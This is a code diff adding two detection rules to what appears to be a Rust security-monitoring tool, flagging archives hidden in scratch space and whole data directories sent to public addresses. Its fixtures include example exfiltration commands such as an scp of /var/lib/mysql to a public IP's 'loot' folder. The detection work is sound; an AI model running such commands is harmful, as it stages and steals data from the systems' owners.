@@ -260,6 +260,56 @@ pub(super) const ROWS: &[Indicator] = &[
             ("fd.name", "/app/logs/app.log"),
         ],
     },
+    Indicator {
+        id: "archive-hidden-in-scratch-space",
+        finds: Finds::Command(&["tar", "zip", "7z", "gzip"], |seen| {
+            let hidden = |path: &str| super::execution::is_scratch(path) && crate::analysis::paths::is_hidden(path);
+            seen.operands().chain(seen.written()).next().is_some_and(hidden)
+                || seen.written().any(hidden)
+                || seen.value_of(&["-f", "--file", "cf", "czf", "-cf", "-czf"]).is_some_and(hidden)
+        }),
+        weight: 62,
+        techniques: &["T1560.001", "T1074.001"],
+        reason: "An archive is made under a hidden name in scratch space: data is gathered before it is taken away.",
+        refuted_by: "The tool that keeps its archives there.",
+        example: &[("proc.cmdline", "tar cf /tmp/.d.tar /home")],
+        look_alike: &[("proc.cmdline", "tar cf /backup/home.tar /home")],
+    },
+    Indicator {
+        id: "whole-data-sent-away",
+        finds: Finds::Command(&["scp", "rsync", "tar", "rclone", "curl", "sftp"], |seen| {
+            let whole = |arg: &str| {
+                matches!(
+                    arg.trim_end_matches('/'),
+                    "/etc"
+                        | "/home"
+                        | "/root"
+                        | "/var/lib/mysql"
+                        | "/var/lib/postgresql"
+                        | "/var/lib/mongodb"
+                        | "/data/db"
+                        | "/var/www"
+                        | "/var/www/html"
+                        | "/opt"
+                        | "/srv"
+                        | "/var/lib"
+                )
+            };
+            let to = ssh_host(seen).is_some_and(words::is_public_address)
+                || seen.urls().any(|url| words::is_public_address(url.host));
+            let piped = seen.feeds(|c| {
+                c.arg_texts().any(words::is_public_address)
+                    || super::seen::urls(c).any(|url| words::is_public_address(url.host))
+            });
+            seen.any_arg(whole) && (to || piped)
+        }),
+        weight: 76,
+        techniques: &["T1048", "T1041"],
+        reason: "A whole data directory is sent to a bare public address.",
+        refuted_by: "A migration or backup of yours to this address.",
+        example: &[("proc.cmdline", "scp -r /var/lib/mysql root@198.51.100.7:/loot")],
+        look_alike: &[("proc.cmdline", "scp -r /var/lib/mysql root@10.0.0.7:/backup")],
+    },
 ];
 
 /// Whether ssh is asked for a tunnel from the far end to here.
@@ -283,7 +333,7 @@ fn ssh_host<'a>(seen: &Seen<'_, 'a>) -> Option<&'a str> {
             || (arg.starts_with('-') && !arg.contains('=') && arg.ends_with('R') && arg.len() <= 6)
         {
             args.next();
-        } else if !arg.starts_with('-') {
+        } else if !arg.starts_with('-') && !arg.contains("://") {
             let word = if matches!(seen.name, "scp" | "rsync" | "sftp") {
                 scp_host(arg)
             } else {
